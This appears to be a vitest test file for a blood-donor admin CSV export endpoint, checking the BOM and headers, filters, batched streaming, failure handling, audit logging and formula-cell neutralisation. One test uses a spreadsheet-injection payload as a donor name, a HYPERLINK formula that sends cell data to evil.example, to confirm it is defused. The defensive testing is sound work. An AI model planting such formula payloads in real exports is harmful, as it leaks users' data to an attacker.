import type { AddressInfo } from 'node:net';
import { eq, sql } from 'drizzle-orm';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { executeRows } from '../../db/client';
import { activityLog, donations } from '../../db/schema';
import {
  insertDonor,
  insertManyDonors,
  parseCsv,
  submitQuestionnaire,
} from '../../test/admin-helpers';
import { signIn, type SignedInUser } from '../../test/donor-helpers';
import { createTestApp, type TestApp, type TestAppOptions } from '../../test/test-app';
import { createTestDatabase, type TestDatabase } from '../../test/test-database';
import { createAdminRepository } from './admin.repository';
import { EXPORT_BATCH_SIZE, EXPORT_COLUMNS, neutraliseCell } from './donor-export.service';

let testDb: TestDatabase;
const opened: TestApp[] = [];
const BOM = '\uFEFF';
const HEADER = EXPORT_COLUMNS.map((column) => column.header);

beforeAll(async () => {
  testDb = await createTestDatabase();
});

afterEach(async () => {
  await Promise.all(opened.splice(0).map((testApp) => testApp.close()));
  await testDb.truncate();
});

afterAll(async () => {
  await testDb?.close();
});

const db = () => testDb.database.db;

async function start(options: Omit<TestAppOptions, 'database'> = {}) {
  const testApp = await createTestApp({
    ...options,
    database: testDb.database,
    services: { backgroundJobs: false, ...options.services },
  });
  opened.push(testApp);
  const admin = await signIn(testApp.app, db(), { role: 'admin' });
  return { testApp, admin };
}

function exportDonors(testApp: TestApp, admin: SignedInUser, payload: object = {}) {
  return testApp.app.inject({
    method: 'POST',
    url: '/api/v1/admin/export/donors',
    headers: admin.headers,
    payload,
  });
}

/** The CSV's rows without the BOM and the header; checks both. */
function dataRows(body: string): string[][] {
  expect(body.startsWith(BOM)).toBe(true);
  const rows = parseCsv(body.slice(1));
  expect(rows[0]).toEqual(HEADER);
  return rows.slice(1);
}

const column = (name: (typeof EXPORT_COLUMNS)[number]['key']) =>
  EXPORT_COLUMNS.findIndex((item) => item.key === name);

describe('neutraliseCell', () => {
  it('prefixes cells a spreadsheet would run as a formula', () => {
    for (const value of ['=1+1', '+91987', '-2', '@SUM(A1)', '\tx', '\rx']) {
      expect(neutraliseCell(value)).toBe(`'${value}`);
    }
    for (const value of ['Asha', '', '2024-01-01', ' =x', "'quoted"]) {
      expect(neutraliseCell(value)).toBe(value);
    }
  });
});

describe('POST /api/v1/admin/export/donors', () => {
  it('sends a UTF-8 CSV attachment with a BOM, a header row and one row per donor, and logs it', async () => {
    const { testApp, admin } = await start();
    const donor = await insertDonor(db(), {
      fullName: 'Śrīnivās "Sri" Rao, Jr.',
      email: 'sri@example.org',
      phone: '+919812345678',
      bloodType: 'AB-',
      gender: 'male',
      dateOfBirth: '1988-07-15',
      city: 'Bengaluru',
      state: 'Karnataka',
      pincode: '560001',
      status: 'approved',
      lastDonationAt: new Date('2025-02-01T00:00:00.000Z'),
      createdAt: new Date('2024-05-06T07:08:09.000Z'),
    });
    await submitQuestionnaire(db(), donor.id);
    await db()
      .insert(donations)
      .values({
        donorId: donor.id,
        donatedAt: new Date('2025-02-01T00:00:00.000Z'),
        place: 'Victoria Hospital',
      });

    const res = await exportDonors(testApp, admin);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="donors-export-${today}.csv"`,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(dataRows(res.body)).toEqual([
      [
        donor.id,
        'Śrīnivās "Sri" Rao, Jr.',
        'sri@example.org',
        "'+919812345678",
        'AB-',
        'male',
        '1988-07-15',
        'Bengaluru',
        'Karnataka',
        '560001',
        'approved',
        'yes',
        'yes',
        '1',
        '2025-02-01T00:00:00.000Z',
        '2024-05-06T07:08:09.000Z',
      ],
    ]);

    await expect
      .poll(
        async () =>
          (await db().select().from(activityLog).where(eq(activityLog.action, 'donors.exported')))
            .length,
      )
      .toBe(1);
    const [entry] = await db()
      .select()
      .from(activityLog)
      .where(eq(activityLog.action, 'donors.exported'));
    expect(entry).toMatchObject({
      actorId: admin.row.id,
      actorRole: 'admin',
      targetType: 'donors',
      details: { filters: {}, rowCount: 1 },
    });
  });

  it('neutralises formula cells such as =HYPERLINK(…) in a name', async () => {
    const { testApp, admin } = await start();
    await insertDonor(db(), {
      fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      city: '@SUM(1+1)',
      state: '-Maharashtra',
      pincode: null,
    });
    const [row] = dataRows((await exportDonors(testApp, admin)).body);
    expect(row![column('fullName')]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(row![column('city')]).toBe("'@SUM(1+1)");
    expect(row![column('state')]).toBe("'-Maharashtra");
    expect(row![column('pincode')]).toBe('');
  });

  it('applies the filters: status, blood type, registration dates (inclusive) and text', async () => {
    const { testApp, admin } = await start();
    const a = await insertDonor(db(), {
      status: 'approved',
      bloodType: 'O-',
      fullName: 'Anil Mehta',
      createdAt: new Date('2024-03-01T10:00:00Z'),
    });
    const b = await insertDonor(db(), {
      status: 'approved',
      bloodType: 'B+',
      createdAt: new Date('2024-03-02T23:59:59Z'),
    });
    const c = await insertDonor(db(), {
      status: 'pending',
      bloodType: 'O-',
      createdAt: new Date('2024-03-03T00:00:00Z'),
    });
    await insertDonor(db(), { status: 'approved', deletedAt: new Date() });
    const ids = async (payload: object) => {
      const res = await exportDonors(testApp, admin, payload);
      expect(res.statusCode, res.body).toBe(200);
      return dataRows(res.body).map((row) => row[0]);
    };
    expect(await ids({})).toEqual([a.id, b.id, c.id]);
    expect(await ids({ status: 'approved' })).toEqual([a.id, b.id]);
    expect(await ids({ bloodType: 'O-' })).toEqual([a.id, c.id]);
    expect(await ids({ status: 'approved', bloodType: 'O-' })).toEqual([a.id]);
    expect(await ids({ from: '2024-03-02' })).toEqual([b.id, c.id]);
    expect(await ids({ to: '2024-03-02' })).toEqual([a.id, b.id]);
    expect(await ids({ from: '2024-03-02', to: '2024-03-02' })).toEqual([b.id]);
    expect(await ids({ q: 'mehta' })).toEqual([a.id]);
    expect(await ids({ status: 'suspended' })).toEqual([]);
    // Dates beyond anyone's registration do not filter (and never reach the database).
    expect(await ids({ from: '0000-01-01', to: '9999-12-31' })).toEqual([a.id, b.id, c.id]);

    const empty = await exportDonors(testApp, admin, { status: 'suspended' });
    expect(empty.body).toBe(`${BOM}${HEADER.join(',')}\n`);

    const backwards = await exportDonors(testApp, admin, { from: '2024-03-03', to: '2024-03-01' });
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().error.details).toEqual([expect.objectContaining({ path: 'body.to' })]);
    for (const payload of [
      { status: 'active' },
      { from: '2024-02-30' },
      { bloodType: 'C+' },
      { extra: 1 },
    ]) {
      const res = await exportDonors(testApp, admin, payload);
      expect(res.statusCode, JSON.stringify(payload)).toBe(payload.extra ? 200 : 400);
    }
    await expect
      .poll(
        async () =>
          (await db().select().from(activityLog).where(eq(activityLog.action, 'donors.exported')))
            .length,
      )
      .toBeGreaterThanOrEqual(10);
    const logged = await db()
      .select()
      .from(activityLog)
      .where(eq(activityLog.action, 'donors.exported'));
    expect(logged.map((entry) => entry.details)).toContainEqual({
      filters: { status: 'approved', bloodType: 'O-' },
      rowCount: 1,
      ms: expect.any(Number),
    });
  });

  it(`streams thousands of donors in batches of ${EXPORT_BATCH_SIZE}, every one exactly once`, async () => {
    const batches: number[] = [];
    const { testApp, admin } = await start({
      services: {
        donorExportRepository: {
          async exportBatch(input) {
            const rows = await createAdminRepository(db()).exportBatch(input);
            batches.push(rows.length);
            return rows;
          },
        },
      },
    });
    const count = 3 * EXPORT_BATCH_SIZE + 217;
    // Registration times shared by 7 donors at a time: batches must break ties by id.
    await insertManyDonors(db(), count, { sameTime: 7 });
    const res = await exportDonors(testApp, admin);
    expect(res.statusCode).toBe(200);
    const rows = dataRows(res.body);
    expect(rows).toHaveLength(count);
    const ids = rows.map((row) => row[0]!);
    expect(new Set(ids).size).toBe(count);
    const expected = await executeRows<{ id: string }>(
      db(),
      sql`select id from users where role = 'donor' order by created_at, id`,
    );
    expect(ids).toEqual(expected.map((row) => row.id));
    expect(batches).toEqual([EXPORT_BATCH_SIZE, EXPORT_BATCH_SIZE, EXPORT_BATCH_SIZE, 217]);

    const approved = dataRows((await exportDonors(testApp, admin, { status: 'approved' })).body);
    expect(approved).toHaveLength(
      Array.from({ length: count }, (_, i) => i + 1).filter((g) => g % 4 === 1).length,
    );
    expect(approved.every((row) => row[column('status')] === 'approved')).toBe(true);
  });

  it('reads the first batch before answering, and cuts the download off when a later batch fails', async () => {
    const errors: unknown[] = [];
    let calls = 0;
    const { testApp, admin } = await start({
      services: {
        donorExportRepository: {
          async exportBatch(input) {
            calls += 1;
            if (calls === 2) throw new Error('connection to the database was lost');
            return createAdminRepository(db()).exportBatch(input);
          },
        },
      },
    });
    await insertManyDonors(db(), EXPORT_BATCH_SIZE + 10);
    await testApp.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = testApp.app.server.address() as AddressInfo;
    const res = await fetch(`http://127.0.0.1:${port}/api/v1/admin/export/donors`, {
      method: 'POST',
      headers: { ...admin.headers, 'content-type': 'application/json' },
      body: '{}',
    });
    expect(res.status).toBe(200);
    // The body ends with an error, never looking complete.
    await res.text().catch((error: unknown) => errors.push(error));
    expect(errors).toHaveLength(1);
    await expect
      .poll(
        async () =>
          (
            await db()
              .select()
              .from(activityLog)
              .where(eq(activityLog.action, 'donors.export_failed'))
          ).length,
      )
      .toBe(1);
    const [entry] = await db()
      .select()
      .from(activityLog)
      .where(eq(activityLog.action, 'donors.export_failed'));
    expect(entry!.details).toMatchObject({ rowsWritten: EXPORT_BATCH_SIZE, aborted: false });
    expect(
      await db().select().from(activityLog).where(eq(activityLog.action, 'donors.exported')),
    ).toHaveLength(0);
  });

  it('answers an ordinary error when the very first batch fails', async () => {
    const { testApp, admin } = await start({
      services: {
        donorExportRepository: {
          async exportBatch() {
            throw new Error('database down');
          },
        },
      },
    });
    const res = await exportDonors(testApp, admin);
    expect(res.statusCode).toBe(500);
    expect(res.json().error.code).toBe('INTERNAL_ERROR');
    expect(res.body).not.toContain('database down');
  });
});
